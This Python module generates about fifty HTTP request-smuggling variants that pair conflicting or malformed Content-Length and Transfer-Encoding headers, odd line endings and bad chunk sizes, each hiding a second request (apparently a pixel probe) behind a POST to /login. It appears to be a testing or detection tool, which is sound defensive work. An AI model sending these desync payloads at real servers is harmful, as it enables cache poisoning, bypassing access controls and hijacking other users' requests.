"""Requests that two servers may read differently: each hides a request for a pixel in an ambiguous body.

The kinds are those of RFC 9112 (6.1, 6.3, 7.1, 11.2) and of public collections of request smuggling.
"""

from __future__ import annotations

_BOTH = "Content-Length: {length}"
_HIDDEN = "{hidden}"
_ENDED = "0\r\n\r\n{hidden}"


# By name: the lines that say where the body ends, and the body.
_FRAMED = {
    "length and chunks": (_BOTH + "\r\nTransfer-Encoding: chunked", _ENDED),
    "chunks and length": ("Transfer-Encoding: chunked\r\n" + _BOTH, _ENDED),
    "xchunked": (_BOTH + "\r\nTransfer-Encoding: xchunked", _ENDED),
    "space before the colon": (_BOTH + "\r\nTransfer-Encoding : chunked", _ENDED),
    "tab before the colon": (_BOTH + "\r\nTransfer-Encoding\t: chunked", _ENDED),
    "tab before the value": (_BOTH + "\r\nTransfer-Encoding:\tchunked", _ENDED),
    "vertical tab": (_BOTH + "\r\nTransfer-Encoding: \x0bchunked", _ENDED),
    "form feed": (_BOTH + "\r\nTransfer-Encoding: \x0cchunked", _ENDED),
    "NUL": (_BOTH + "\r\nTransfer-Encoding: chunked\0", _ENDED),
    "folded line": (_BOTH + "\r\nTransfer-Encoding:\r\n chunked", _ENDED),
    "folded line before": ("X: y\r\n Transfer-Encoding: chunked\r\n" + _BOTH, _ENDED),
    "bare LF": (_BOTH + "\r\nX: y\nTransfer-Encoding: chunked", _ENDED),
    "bare CR": (_BOTH + "\r\nX: y\rTransfer-Encoding: chunked", _ENDED),
    "underscore": (_BOTH + "\r\nTransfer_Encoding: chunked", _ENDED),
    "upper case": (_BOTH + "\r\nTransfer-Encoding: CHUNKED", _ENDED),
    "quoted": (_BOTH + '\r\nTransfer-Encoding: "chunked"', _ENDED),
    "with a parameter": (_BOTH + "\r\nTransfer-Encoding: chunked;x=y", _ENDED),
    "leading comma": (_BOTH + "\r\nTransfer-Encoding: , chunked", _ENDED),
    "trailing comma": (_BOTH + "\r\nTransfer-Encoding: chunked,", _ENDED),
    "identity": (_BOTH + "\r\nTransfer-Encoding: identity", _ENDED),
    "chunked twice": (_BOTH + "\r\nTransfer-Encoding: chunked, chunked", _ENDED),
    "two lines": (_BOTH + "\r\nTransfer-Encoding: identity\r\nTransfer-Encoding: chunked", _ENDED),
    "not the last": (_BOTH + "\r\nTransfer-Encoding: chunked, gzip", _ENDED),
    "empty": (_BOTH + "\r\nTransfer-Encoding:", _ENDED),
    "two lengths": ("Content-Length: 0\r\n" + _BOTH, _HIDDEN),
    "two lengths, the shorter last": (_BOTH + "\r\nContent-Length: 0", _HIDDEN),
    "lengths with a comma": ("Content-Length: 0, {length}", _HIDDEN),
    "negative length": ("Content-Length: -0", _HIDDEN),
    "length with plus": ("Content-Length: +0", _HIDDEN),
    "hexadecimal length": ("Content-Length: 0x0", _HIDDEN),
    "length with underscore": ("Content-Length: 0_0", _HIDDEN),
    "length with a space": ("Content-Length: 0 0", _HIDDEN),
    "length that overflows": ("Content-Length: 18446744073709551616", _HIDDEN),
    "length with a space before the colon": ("Content-Length : 0", _HIDDEN),
    "empty length": ("Content-Length:", _HIDDEN),
    "length on a folded line": ("Content-Length:\r\n 0", _HIDDEN),
    "hidden in an extension": ("Transfer-Encoding: chunked", "0;\n\r\n\r\n" + _HIDDEN),
    "extension that ends with LF": ("Transfer-Encoding: chunked", "2;\nxx\r\n0\r\n\r\n" + _HIDDEN),
    "chunk that ends with LF": ("Transfer-Encoding: chunked", "1\r\nx\n0\r\n\r\n" + _HIDDEN),
    "size that ends with LF": ("Transfer-Encoding: chunked", "0\n\n" + _HIDDEN),
    "size that ends with CR": ("Transfer-Encoding: chunked", "0\r\r" + _HIDDEN),
    "hexadecimal size": ("Transfer-Encoding: chunked", "0x0\r\n\r\n" + _HIDDEN),
    "negative size": ("Transfer-Encoding: chunked", "-0\r\n\r\n" + _HIDDEN),
    "size with plus": ("Transfer-Encoding: chunked", "+0\r\n\r\n" + _HIDDEN),
    "size with a space": ("Transfer-Encoding: chunked", " 0\r\n\r\n" + _HIDDEN),
    "size that overflows": ("Transfer-Encoding: chunked", "10000000000000000\r\n\r\n" + _HIDDEN),
    "chunk that is longer": ("Transfer-Encoding: chunked", "1\r\nxyz\r\n0\r\n\r\n" + _HIDDEN),
    "chunk without an end": ("Transfer-Encoding: chunked", "1\r\nx0\r\n\r\n" + _HIDDEN),
}


def cases(host: str, hidden: str) -> dict[str, bytes]:
    """Ambiguous requests by name; `hidden` is the head of the request that they hide, with its empty line."""
    start = f"POST /login HTTP/1.1\r\nHost: {host}"
    made = {name: _request(start, lines, body, hidden) for name, (lines, body) in _FRAMED.items()}
    old = f"POST /login HTTP/1.0\r\nHost: {host}\r\nConnection: keep-alive"
    return {**made, "chunks in HTTP/1.0": _request(old, *_FRAMED["chunks and length"], hidden)}


def _request(start: str, lines: str, body: str, hidden: str) -> bytes:
    kind, body = "Content-Type: application/x-www-form-urlencoded", body.replace(_HIDDEN, hidden)
    head = f"{start}\r\n{kind}\r\n{lines.replace('{length}', str(len(body)))}\r\n\r\n"
    return (head + body).encode("latin-1")
